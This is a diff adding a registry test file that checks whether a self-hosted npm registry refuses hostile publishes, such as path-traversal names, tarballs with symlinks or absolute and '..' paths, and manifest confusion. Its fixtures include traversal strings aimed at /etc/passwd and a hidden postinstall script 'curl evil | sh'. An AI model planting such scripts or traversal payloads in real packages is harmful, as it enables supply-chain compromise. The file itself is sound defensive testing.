@@ -1,0 +1,155 @@
+// Hostile and malformed input to the npm format: each answered with npm's JSON error body
+// and the right status, and nothing stored changes.
+import { randomBytes } from 'node:crypto';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { makeTarball, packageTarball, publishBody } from '../helpers/npm-publish-body.js';
+import { createUserAndToken, rawRequest, startRegistry, type RunningRegistry } from '../helpers/registry-process.js';
+
+describe('npm bad input', () => {
+  let registry: RunningRegistry;
+  let token: string;
+  let readOnly: string;
+
+  beforeAll(async () => {
+    registry = await startRegistry(`
+limits: { maxUploadSize: 1mb }
+repositories:
+  npm-local: { format: npm, type: hosted }
+`);
+    token = await createUserAndToken(registry.configFile, 'alice');
+    readOnly = await createUserAndToken(registry.configFile, 'alice', { readOnly: true });
+  });
+  afterAll(async () => {
+    await registry?.stop();
+  });
+
+  const put = (rawPath: string, body: string | Buffer, auth: string | null = token) =>
+    rawRequest(registry.url, `/npm-local/${rawPath}`, {
+      method: 'PUT',
+      headers: { 'content-type': 'application/json', ...(auth ? { authorization: `Bearer ${auth}` } : {}) },
+      body,
+    });
+
+  async function expectRefused(answer: { status: number; body: string; headers: Record<string, unknown> }, status: number, message: RegExp) {
+    expect(answer.status, answer.body).toBe(status);
+    expect(String(answer.headers['content-type'])).toContain('application/json');
+    expect((JSON.parse(answer.body) as { error: string }).error).toMatch(message);
+  }
+
+  async function expectNotStored(name: string) {
+    const doc = await rawRequest(registry.url, `/npm-local/${name.replace('/', '%2f')}`);
+    // 404, or 400 for a name that cannot exist at all.
+    expect([400, 404], `${name} must not exist`).toContain(doc.status);
+  }
+
+  const good = { name: 'good-pkg', version: '1.0.0' };
+
+  it('accepts a well-formed publish (the baseline the others deviate from)', async () => {
+    const answer = await put('good-pkg', publishBody(good, await packageTarball(good)));
+    expect(answer.status, answer.body).toBe(201);
+  });
+
+  it('refuses a republish of an existing version with 403', async () => {
+    const other = await packageTarball({ ...good, description: 'different bytes' });
+    await expectRefused(await put('good-pkg', publishBody({ ...good, description: 'different bytes' }, other)), 403, /cannot modify pre-existing version: 1.0.0/);
+  });
+
+  it.each([
+    ['foo..bar', 'foo..bar', /contains "\.\."/],
+    ['capitals', 'Acme-Caps', /lowercase/],
+    ['over 214 characters', 'a'.repeat(215), /longer than 214/],
+    ['leading dot', '.hidden', /starts with/],
+    ['space', 'has%20space', /spaces/],
+  ])('refuses a name with %s', async (_label, name, message) => {
+    const manifest = { name: decodeURIComponent(name), version: '1.0.0' };
+    await expectRefused(await put(name, publishBody(manifest, await packageTarball(manifest))), 400, message);
+    await expectNotStored(name);
+  });
+
+  it.each(['..%2f..%2fetc%2fpasswd', '%2e%2e/x', 'a%2fb', '@scope%2f..%2fx', '@%2fx'])('refuses the path trick %s', async (path) => {
+    const manifest = { name: 'x', version: '1.0.0' };
+    const answer = await put(path, publishBody(manifest, await packageTarball(manifest)));
+    expect([400, 404]).toContain(answer.status);
+    expect((JSON.parse(answer.body) as { error: string }).error).toBeTruthy();
+  });
+
+  it('refuses an invalid semver version', async () => {
+    const manifest = { name: 'bad-version', version: '1.0' };
+    await expectRefused(await put('bad-version', publishBody(manifest, await packageTarball(manifest))), 400, /not a valid semver/);
+    await expectNotStored('bad-version');
+  });
+
+  it('refuses an attachment that does not match dist.integrity or shasum', async () => {
+    const manifest = { name: 'bad-digest', version: '1.0.0' };
+    const tarball = await packageTarball(manifest);
+    await expectRefused(await put('bad-digest', publishBody(manifest, tarball, { integrity: `sha512-${Buffer.alloc(64).toString('base64')}` })), 400, /sha512/);
+    await expectRefused(await put('bad-digest', publishBody(manifest, tarball, { integrity: '', shasum: '0'.repeat(40) })), 400, /sha1/);
+    await expectNotStored('bad-digest');
+  });
+
+  it('answers 413 for a body or a tarball over the limit', async () => {
+    const manifest = { name: 'too-big', version: '1.0.0' };
+    const huge = await packageTarball(manifest, [{ name: 'package/blob.bin', content: randomBytes(1_500_000) }]);
+    const answer = await put('too-big', publishBody(manifest, huge));
+    expect(answer.status, answer.body).toBe(413);
+    await expectNotStored('too-big');
+    const body = Buffer.alloc(4 * 1024 * 1024, 0x20);
+    expect((await put('too-big', body)).status).toBe(413);
+  });
+
+  it('refuses an attachment that is not a gzip tarball', async () => {
+    const manifest = { name: 'not-gzip', version: '1.0.0' };
+    await expectRefused(await put('not-gzip', publishBody(manifest, Buffer.from('just some text, not a tarball'))), 400, /not a gzip-compressed tarball/);
+    await expectNotStored('not-gzip');
+  });
+
+  it.each([
+    ['a symlink', { name: 'package/evil', type: 'symlink' as const, linkname: '/etc/passwd' }, /symlink/],
+    ['a hard link', { name: 'package/evil', type: 'link' as const, linkname: 'package/index.js' }, /link/],
+    ['an absolute path', { name: '/etc/cron.d/evil', content: 'x' }, /absolute path/],
+    ['a .. entry', { name: 'package/../../evil', content: 'x' }, /"\.\."/],
+    ['a device', { name: 'package/dev', type: 'character-device' as const }, /character-device/],
+  ])('refuses a tarball with %s', async (_label, entry, message) => {
+    const manifest = { name: 'hostile-tarball', version: '1.0.0' };
+    const tarball = await makeTarball([{ name: 'package/package.json', content: JSON.stringify(manifest) }, entry]);
+    await expectRefused(await put('hostile-tarball', publishBody(manifest, tarball)), 400, message);
+    await expectNotStored('hostile-tarball');
+  });
+
+  it.each([
+    ['dependencies', { dependencies: { 'left-pad': '1.0.0' } }, { dependencies: { 'evil-pad': '1.0.0' } }],
+    ['scripts', {}, { scripts: { postinstall: 'curl evil | sh' } }],
+    ['bin', { bin: { tool: 'cli.js' } }, { bin: { tool: 'other.js' } }],
+    ['version', {}, { version: '9.9.9' }],
+  ])('refuses a manifest whose %s disagrees with the tarball (manifest confusion)', async (field, published, packed) => {
+    const manifest = { name: 'confused', version: '1.0.0', ...published };
+    const tarball = await packageTarball({ name: 'confused', version: '1.0.0', ...published, ...packed });
+    await expectRefused(await put('confused', publishBody(manifest, tarball)), 400, new RegExp(`"${field}" does not match`));
+    await expectNotStored('confused');
+  });
+
+  it('refuses a publish with no token (401) or a read-only one (403)', async () => {
+    const manifest = { name: 'needs-auth', version: '1.0.0' };
+    const body = publishBody(manifest, await packageTarball(manifest));
+    const anonymous = await put('needs-auth', body, null);
+    expect(anonymous.status).toBe(401);
+    expect(anonymous.headers['www-authenticate']).toBeTruthy();
+    await expectRefused(await put('needs-auth', body, readOnly), 403, /read-only/);
+    await expectNotStored('needs-auth');
+  });
+
+  it('refuses a search with an absurd size', async () => {
+    const answer = await rawRequest(registry.url, '/npm-local/-/v1/search?text=a&size=99999999');
+    expect(answer.status).toBe(400);
+    expect((JSON.parse(answer.body) as { error: string }).error).toMatch(/size/);
+    expect((await rawRequest(registry.url, '/npm-local/-/v1/search?text=a&size=-1')).status).toBe(400);
+  });
+
+  it('still serves the good package unchanged after all of that', async () => {
+    const doc = await rawRequest(registry.url, '/npm-local/good-pkg');
+    expect(doc.status).toBe(200);
+    expect(Object.keys((JSON.parse(doc.body) as { versions: object }).versions)).toEqual(['1.0.0']);
+    const tgz = await fetch(`${registry.url}/npm-local/good-pkg/-/good-pkg-1.0.0.tgz`);
+    expect(tgz.status).toBe(200);
+  });
+});
